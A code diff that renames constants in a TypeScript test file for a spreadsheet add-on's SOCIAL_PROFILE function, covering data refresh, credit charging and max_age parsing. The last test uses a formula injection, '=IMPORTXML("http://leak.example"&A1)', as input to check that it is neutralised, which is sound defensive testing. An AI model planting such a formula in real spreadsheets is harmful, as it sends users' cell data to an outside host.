@@ -4,8 +4,8 @@ import { people, setKey, setUpWorkbench } from '../spreadsheet-setup.ts';
 
 const bench = setUpWorkbench();
 const [ada = '', ben = ''] = Object.keys(people);
-const now_ms = Date.UTC(2026, 10, 20, 10);
-const minute_ms = 60_000;
+const nowMs = Date.UTC(2026, 10, 20, 10);
+const minuteMs = 60_000;
 
 async function openWithRefreshCell() {
   const file = await bench.open();
@@ -41,7 +41,7 @@ test('Refresh buys fresh data for the formulas that name the refresh cell, and f
   file.type('B1', '=SOCIAL_PROFILE(A1, "followers,credits_charged", SOCIAL_REFRESH)');
   file.type('B2', '=SOCIAL_PROFILE(A2, "followers,credits_charged")');
   expect(await charged()).toBe(2);
-  file.pass(minute_ms);
+  file.pass(minuteMs);
   file.call('refresh_');
   expect(await charged()).toBe(3);
   expect((await bench.api.log()).requests.at(-1)?.parameters).toMatchObject({
@@ -56,7 +56,7 @@ test('reopening a file after a refresh buys nothing', async () => {
   file.type('A1', ada);
   file.type('B1', '=SOCIAL_PROFILE(A1, "followers,credits_charged", SOCIAL_REFRESH)');
   expect(file.values('D1')).toEqual([[1]]);
-  file.pass(3 * minute_ms);
+  file.pass(3 * minuteMs);
   file.reopen();
   expect(file.values('D1')).toEqual([[0]]);
   expect(await charged()).toBe(1);
@@ -67,7 +67,7 @@ test('a word in the refresh cell stays there: 7d buys only what is older than se
   file.type('A1', ada);
   file.type('H1', '7d');
   file.type('B1', '=SOCIAL_PROFILE(A1, "followers", SOCIAL_REFRESH)');
-  file.pass(minute_ms);
+  file.pass(minuteMs);
   file.call('refresh_');
   expect(file.values('H1')).toEqual([['7d 2026-11-20T10:01:00.000Z']]);
   const { requests } = await bench.api.log();
@@ -78,22 +78,22 @@ test.each([
   ['', '1d'],
   [undefined, '1d'],
   [true, '1d'],
-  [new Date(now_ms), '1d'],
+  [new Date(nowMs), '1d'],
   [' 14D ', '14d'],
   ['fresh', 'fresh'],
-  [`fresh ${new Date(now_ms - minute_ms).toISOString()}`, 'fresh'],
-  [`fresh ${new Date(now_ms - 3 * minute_ms).toISOString()}`, '1d'],
-  [`fresh ${new Date(now_ms + minute_ms).toISOString()}`, '1d'],
+  [`fresh ${new Date(nowMs - minuteMs).toISOString()}`, 'fresh'],
+  [`fresh ${new Date(nowMs - 3 * minuteMs).toISOString()}`, '1d'],
+  [`fresh ${new Date(nowMs + minuteMs).toISOString()}`, '1d'],
   ['fresh whenever', '1d'],
 ])('max_age %s asks for %s', (asked, expected) => {
-  expect(readMaxAge(asked, now_ms)).toBe(expected);
+  expect(readMaxAge(asked, nowMs)).toBe(expected);
 });
 
 test('a max_age that is not known is an error, a number too', () => {
-  for (const wrong of ['2d', 'day', 7, 'freshh']) expect(() => readMaxAge(wrong, now_ms)).toThrow('did you mean');
+  for (const wrong of ['2d', 'day', 7, 'freshh']) expect(() => readMaxAge(wrong, nowMs)).toThrow('did you mean');
 });
 
 test('what stands in the refresh cell never becomes more than a known word and a time', () => {
-  expect(refreshedText('=IMPORTXML("http://leak.example"&A1)', now_ms)).toBe('fresh 2026-11-20T10:00:00.000Z');
-  expect(refreshedText('3d old', now_ms)).toBe('3d 2026-11-20T10:00:00.000Z');
+  expect(refreshedText('=IMPORTXML("http://leak.example"&A1)', nowMs)).toBe('fresh 2026-11-20T10:00:00.000Z');
+  expect(refreshedText('3d old', nowMs)).toBe('3d 2026-11-20T10:00:00.000Z');
 });
